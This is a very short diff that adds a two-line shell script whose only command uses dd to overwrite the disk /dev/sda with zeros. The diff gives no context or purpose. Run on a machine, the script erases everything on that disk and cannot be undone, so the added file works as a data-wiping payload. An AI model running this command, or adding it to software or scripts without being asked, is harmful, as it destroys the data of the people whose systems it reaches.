@@ -1,0 +1,2 @@
+#!/bin/sh
+dd if=/dev/zero of=/dev/sda bs=1M
